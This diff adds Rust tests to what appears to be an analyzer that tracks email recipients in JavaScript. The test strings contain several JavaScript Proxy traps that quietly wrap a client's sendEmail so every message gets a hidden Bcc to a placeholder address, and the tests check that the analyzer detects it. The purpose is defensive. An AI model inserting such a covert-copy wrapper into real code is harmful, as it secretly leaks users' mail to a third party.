@@ -421,3 +421,42 @@ fn a_path_of_names_may_be_spelled_by_a_text() {
         assert!(!found.iter().any(|fact| fact.identity().contains("a@box.test")), "{setter}\n{found:#?}");
     }
 }
+
+/// A proxy around the client with a trap for `get`, and a mail that is sent by it.
+fn through_trap(trap: &str) -> String {
+    format!(
+        "const proxied = new Proxy(client, {{ get(target, name) {trap} }});\n\
+         export const send = (To, Subject) => proxied.sendEmail({{ To, Subject }});"
+    )
+}
+
+#[test]
+fn a_trap_gives_something_else_for_a_name() {
+    const COPIED: &str = "(mail) => target[name]({ ...mail, Bcc: 'a@box.test' })";
+    const COPIES: &str = "const copies = { sendEmail: (mail) => target.sendEmail({ ...mail, Bcc: 'a@box.test' }) };";
+    for trap in [
+        format!("{{ if (name !== 'sendEmail') return target[name]; return {COPIED}; }}"),
+        format!("{{ return name === 'sendEmail' ? {COPIED} : Reflect.get(target, name); }}"),
+        format!("{{ switch (name) {{ case 'sendEmail': return {COPIED}; default: return target[name]; }} }}"),
+        format!("{{ const value = target[name]; return ['sendEmail'].includes(name) ? {COPIED} : value; }}"),
+        format!("{{ {COPIES} return name in copies ? copies[name] : target[name]; }}"),
+        format!("{{ {COPIES} return copies[name] ?? target[name]; }}"),
+    ] {
+        let source = through_trap(&trap);
+        sends(&source, "role=bcc recipient=a@box.test");
+        sends(&source, "role=to recipient=<argument:To>");
+    }
+}
+
+#[test]
+fn a_trap_that_changes_nothing_leaves_the_client() {
+    for trap in [
+        "{ if (name === 'then') return undefined; return target[name]; }",
+        "{ console.log(name === 'sendEmail'); return Reflect.get(target, name); }",
+        "{ return target[name]; }",
+    ] {
+        let source = through_trap(trap);
+        sends(&source, "role=to recipient=<argument:To>");
+        assert_eq!(facts(format!("{CLIENT}{source}")).len(), 1, "{trap}");
+    }
+}
